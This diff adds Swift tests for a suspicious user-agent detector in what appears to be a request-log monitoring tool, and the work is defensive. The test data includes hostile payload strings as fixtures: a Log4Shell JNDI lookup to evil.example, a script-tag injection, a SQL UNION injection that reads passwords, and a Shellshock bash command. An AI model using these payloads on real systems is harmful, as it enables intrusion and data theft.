@@ -1,0 +1,82 @@
+import ReqwatchCore
+import ReqwatchDetect
+import ReqwatchTestSupport
+import Testing
+
+@Suite struct SuspiciousUserAgentTests {
+    func reasons(_ lines: [String], _ config: DetectConfiguration = DetectConfiguration()) throws -> [String] {
+        try only(DetectorHarness.run(lines: lines, configuration: config), .suspiciousUserAgent).compactMap {
+            if case .string(let s)? = $0.evidence.first(where: { $0.0 == "reason" })?.1 { return s }
+            return nil
+        }
+    }
+
+    @Test(arguments: [
+        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner"),
+        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "scanner"),
+        ("Mozilla/5.0 zgrab/0.x", "scanner"),
+        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner"),
+        ("${jndi:ldap://evil.example/a}", "injection-payload"),
+        ("Mozilla/5.0<script>alert(1)</script>", "injection-payload"),
+        ("x' UNION SELECT password FROM users--", "injection-payload"),
+        ("() { :; }; /bin/bash -c 'id'", "injection-payload"),
+        ("\"\"", "empty"),
+    ])
+    func oneAlertPerReason(ua: String, reason: String) throws {
+        let lines = (0..<5).map { "+\($0) 203.0.113.80 - GET /products/\($0) 200 \(ua)" }
+        #expect(try reasons(lines) == [reason])
+    }
+
+    @Test func malformedControlBytesAndLength() throws {
+        var reqs = [TestRequest(time: DetectorHarness.t0, ip: "203.0.113.81", path: "/", userAgent: "Mozilla\u{01}/5.0")]
+        reqs.append(TestRequest(time: DetectorHarness.t0 + 1, ip: "203.0.113.82", path: "/", userAgent: String(repeating: "A", count: 2000)))
+        let alerts = only(try DetectorHarness.run(reqs), .suspiciousUserAgent)
+        #expect(alerts.count == 2)
+        #expect(alerts.allSatisfy { $0.evidence.first?.1 == .string("malformed") })
+    }
+
+    @Test func missingUserAgentOnlyWhenTheInputLogsThem() throws {
+        // an input that never logs user agents (common log format): silent
+        let none = (0..<50).map { "+\($0) 192.0.2.\($0 % 5 + 1) - GET /a 200 -" }
+        #expect(try reasons(none).isEmpty)
+        // an input that logs them: a missing one stands out
+        var mixed = (0..<30).map { "+\($0) 192.0.2.1 - GET /a 200 Mozilla/5.0" }
+        mixed.append("+40 203.0.113.90 - GET /a 200 -")
+        #expect(try reasons(mixed) == ["missing"])
+    }
+
+    @Test func rotationFires() throws {
+        let lines = (0..<20).map { "+\($0 * 3) 203.0.113.91 - GET /p/\($0) 200 Mozilla/5.0-Variant-\($0)" }
+        #expect(try reasons(lines) == ["rotation"])
+    }
+
+    @Test func scriptedClientOnBrowserPage() throws {
+        var c = DetectConfiguration()
+        c.inventory = try RouteInventory.parse(text: petSpec, origin: "spec.yaml")
+        let lines = ["+0 203.0.113.92 - GET /v1/home 200 curl/8.5.0", "+1 203.0.113.93 - GET /v1/users/me 200 curl/8.5.0"]
+        #expect(try reasons(lines, c) == ["scripted-client-on-page"])
+    }
+
+    @Test func browsersSDKsCrawlersAndMonitorsAreQuiet() throws {
+        let agents = [
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+            "okhttp/4.12.0", "MyApp/3.1 CFNetwork/1496.0.7 Darwin/23.5.0", "Dart/3.3 (dart:io)", "Alamofire/5.9.0",
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "Pingdom.com_bot_version_1.4",
+            "ELB-HealthChecker/2.0", "kube-probe/1.29", "StatusCake",
+        ]
+        var lines: [String] = []
+        for (k, ua) in agents.enumerated() {
+            for j in 0..<3 { lines.append("+\(k * 10 + j) 192.0.2.\(k + 1) - GET /products/\(j) 200 \(ua)") }
+        }
+        #expect(try DetectorHarness.run(lines: lines).isEmpty)
+    }
+
+    @Test func allowlistedAgentIsSuppressed() throws {
+        var c = DetectConfiguration()
+        c.allowUserAgents = ["nuclei"]
+        let lines = (0..<5).map { "+\($0) 203.0.113.80 - GET /x/\($0) 200 Nuclei-internal-scan" }
+        #expect(try reasons(lines, c).isEmpty)
+    }
+}
